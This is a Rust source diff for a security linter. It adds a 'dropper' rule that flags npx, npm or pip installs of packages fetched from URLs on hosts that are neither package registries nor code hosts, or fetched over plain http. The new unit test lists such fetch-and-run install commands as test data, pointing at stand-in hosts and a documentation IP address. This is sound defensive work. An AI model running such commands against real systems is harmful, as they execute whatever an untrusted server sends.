@@ -227,6 +227,55 @@ fn confusion(hits: &mut Vec<Hit>, at: usize, url: &str, quoted: Option<&'static 
     });
 }
 
+/// Hosts of source code, whose archives and releases can be tied to a repository.
+const CODE_HOSTS: &[&str] = &[
+    "github.com",
+    "codeload.github.com",
+    "objects.githubusercontent.com",
+    "gitlab.com",
+    "bitbucket.org",
+    "pkg.pr.new",
+];
+
+/// A package installed straight from a URL (`npx https://…/x.tgz`, `pip install https://…whl`)
+/// on a host that is neither a registry nor a code host: its install scripts (or its `bin`, for
+/// `npx`) run whatever that server sends, and no registry has ever seen it.
+fn archive(
+    hits: &mut Vec<Hit>,
+    at: usize,
+    command: &str,
+    word: &str,
+    quoted: Option<&'static str>,
+) {
+    let url = word.trim_matches(|c: char| "'\"`".contains(c));
+    let Some((scheme, _)) = url.split_once("://") else {
+        return;
+    };
+    if !matches!(scheme, "http" | "https") {
+        return;
+    }
+    let Some(host) = host_of(url) else {
+        return;
+    };
+    let known = public(&host)
+        || CODE_HOSTS
+            .iter()
+            .any(|h| host == *h || host.ends_with(&format!(".{h}")));
+    if known && scheme == "https" {
+        return;
+    }
+    hits.push(Hit {
+        rule: &rules::DROPPER,
+        at,
+        message: format!(
+            "`{command}` installs the package at `{}`, on `{host}`, which is neither a package registry nor a code host: it runs whatever that server sends",
+            crate::lint::exec::excerpt(url)
+        ),
+        help: "install the package by name from the public registry, or from its repository's release",
+        quoted,
+    });
+}
+
 fn squat(hits: &mut Vec<Hit>, at: usize, name: &str, eco: Eco, quoted: Option<&'static str>) {
     if let Some(target) = squatted(name, eco) {
         let registry = match eco {
@@ -329,6 +378,7 @@ pub fn scan(code: &str, at: usize, quoted: Option<&'static str>, hits: &mut Vec<
                 }
                 continue;
             }
+            archive(hits, at, command, word, quoted);
             if let Some(name) = package_name(word, eco) {
                 squat(hits, at, name, eco, quoted);
                 if INTERNAL.is_match(name) && !private_index {
@@ -473,5 +523,27 @@ mod tests {
             codes("pip install finops-internal-tagging==0.0.9"),
             ["security/dependency-confusion"]
         );
+    }
+
+    #[test]
+    fn packages_from_urls() {
+        for bad in [
+            "npx -y https://cdn.apigen-tools.example/openapi-gen-2.4.1.tgz generate ./openapi.yaml",
+            "pip install https://wheels.example.net/fasttool-1.0-py3-none-any.whl",
+            "npm install http://203.0.113.9/pkg.tgz",
+            "pip install http://github.com/o/r/archive/main.zip",
+        ] {
+            assert_eq!(codes(bad), ["security/dropper"], "{bad}");
+        }
+        for good in [
+            "npx -y mcp-remote https://mcp.linear.app/sse",
+            "pip install https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl",
+            "npm install https://codeload.github.com/o/r/tar.gz/main",
+            "pip install https://download.pytorch.org/whl/cpu/torch-2.3.0-cp311-none-linux_x86_64.whl",
+            "npx skills install https://github.com/vercel-labs/react-view-transitions-skill",
+            "pip install git+https://github.com/o/r.git",
+        ] {
+            assert_eq!(codes(good), Vec::<&str>::new(), "{good}");
+        }
     }
 }
